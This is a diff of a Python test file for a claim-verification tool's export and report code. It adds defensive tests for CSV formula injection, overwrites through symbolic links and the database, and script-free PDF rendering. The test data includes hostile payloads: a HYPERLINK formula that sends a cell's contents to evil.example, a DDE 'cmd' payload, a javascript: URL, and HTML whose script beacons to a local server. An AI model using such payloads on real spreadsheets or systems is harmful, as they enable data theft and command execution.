@@ -65,10 +65,10 @@ def populate(store: Store) -> dict[str, int]:
         q = claim(s, a, "quote", "« Nous n'avons jamais livré d'armes »", speaker="Sergueï Lavrov",
                   reference="Sergueï Lavrov", finding="consistent", explanation="Verbatim in the transcript.",
                   attrs={"quote_type": "marked", "anonymous": False})
-        s.add(Evidence(claim_id=q.id, kind="passage", source_title="Transcript MID", score=0.98,
+        s.add(Evidence(claim_id=q.id, kind="passage", source_title="Transcript MID", score=98.0,
                        source_url="https://mid.example.ru/transcript", method="align",
                        start=10, end=48, detail={"class": "verbatim"}))
-        s.add(Evidence(claim_id=q.id, kind="passage", source_title="Weak", score=0.4,
+        s.add(Evidence(claim_id=q.id, kind="passage", source_title="Weak", score=40.0,
                        source_url="javascript:alert(1)", method="align"))
         t = claim(s, a, "temporal", "Huit ans après l'accord", value={"timex_type": "DURATION", "value": "P8Y"},
                   finding="contradicted", explanation="The accord was in 2016: nine years.")
@@ -129,6 +129,21 @@ def test_csv_reads_back_with_the_csv_module(store: Store) -> None:
     assert trailer == (f"# verifier export: rows=6 audit_head_seq={seq} audit_head_hash={digest} "
                        f"generated_at={trailer.split('generated_at=')[1].split(' ')[0]} filters={{}}")  # type: ignore[union-attr]
     assert result.head_seq == seq and result.head_hash == digest
+
+
+@pytest.mark.parametrize("note", ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(1)", "\t=1", "\r=1"])
+def test_csv_never_hands_a_formula_to_a_spreadsheet(store: Store, note: str) -> None:
+    ids = populate(store)
+    record_verdict(store=store, claim_id=ids["factual"], verdict="False", note=note,
+                   actor="alice", seen_version=2)
+    with store.read() as s:
+        stored = s.get(Claim, ids["factual"]).note  # notes are stored stripped
+    data, _ = run(store, "csv")
+    raw = [r for r in data.decode("utf-8").splitlines() if r.startswith(f"{ids['factual']},")]
+    assert raw and f",'{stored[:1]}" in raw[0].replace('"', "")  # the cell starts with '
+    rows, _ = read_csv(data.decode("utf-8"))
+    assert {int(r["claim_id"]): r for r in rows}[ids["factual"]]["note"] == stored  # read back
 
 
 def test_xlsx_reads_back_with_openpyxl(store: Store, tmp_path: Path) -> None:
@@ -353,6 +368,37 @@ def test_cli_export(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatc
     assert res.exit_code == 0 and '"@type":"ClaimReview"' in res.output
 
 
+def test_cli_export_never_overwrites_without_force_nor_the_database(
+        store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    populate(store)
+    monkeypatch.setenv("VERIFIER_DATABASE_URL", store.url)
+    runner, app = CliRunner(), cli_app()
+    out = tmp_path / "report.csv"
+    out.write_text("someone's work")
+    res = runner.invoke(app, ["export", "--format", "csv", "--out", str(out)])
+    assert res.exit_code == 2 and "exists; give --force" in res.output
+    assert out.read_text() == "someone's work"
+    res = runner.invoke(app, ["export", "--format", "csv", "--out", str(out), "--force"])
+    assert res.exit_code == 0 and out.read_text().startswith("claim_id,")
+    # A symbolic link is replaced, never written through.
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    link = tmp_path / "link.csv"
+    link.symlink_to(victim)
+    res = runner.invoke(app, ["export", "--format", "csv", "--out", str(link), "--force"])
+    assert res.exit_code == 0 and victim.read_text() == "keep me" and not link.is_symlink()
+    assert not list(tmp_path.glob(".*part"))
+    if store.url.startswith("sqlite"):
+        db = Path(store.url.split("///", 1)[1])
+        before = db.read_bytes()
+        for target in (db, db.with_name(db.name + "-wal")):
+            res = runner.invoke(app, ["export", "--format", "csv", "--out", str(target), "--force"])
+            assert res.exit_code == 2 and "database itself" in res.output
+        assert db.read_bytes()[:100] == before[:100]
+        with store.read() as session:
+            assert audit.verify_chain(session).ok
+
+
 def test_pdf_without_browser_is_a_clear_error(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     populate(store)
     monkeypatch.setenv("VERIFIER_BROWSER", str(tmp_path / "no-chromium"))
@@ -399,6 +445,49 @@ def test_report_renders_to_pdf_and_png(tmp_path: Path) -> None:
     shot = tmp_path / "report.png"
     html_to_png(html, shot)
     assert shot.read_bytes().startswith(b"\x89PNG") and shot.stat().st_size > 10_000
+
+
+def test_pdf_rendering_runs_no_script_and_fetches_nothing(tmp_path: Path) -> None:
+    """The report holds hostile document text: its renderer has JavaScript off and no network
+    (a local server sees no request)."""
+    import http.server
+    import threading
+
+    from verifier.report import pdf
+
+    hits: list[str] = []
+
+    class Spy(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802
+            hits.append(self.path)
+            self.send_error(404)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    spy = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Spy)
+    threading.Thread(target=spy.serve_forever, daemon=True).start()
+    port = spy.server_address[1]
+    html = tmp_path / "hostile.html"
+    html.write_text("<html><head><title>report</title></head><body><p>claims</p>"
+                    "<script>document.title = 'script ran';"
+                    f"fetch('http://127.0.0.1:{port}/from-script')</script>"
+                    f"<img src='http://127.0.0.1:{port}/beacon.png'></body></html>",
+                    encoding="utf-8")
+    try:
+        pdf.html_to_pdf(html, tmp_path / "hostile.pdf")
+        with pdf._playwright() as p:
+            browser = pdf._launch(p)
+            try:
+                page = pdf._open(browser, html)
+                assert page.title() == "report"  # the script did not run
+            finally:
+                browser.close()
+    finally:
+        spy.shutdown()
+        spy.server_close()
+    assert (tmp_path / "hostile.pdf").read_bytes().startswith(b"%PDF-")
+    assert hits == []
 
 
 # --- bounded memory -----------------------------------------------------------------------------
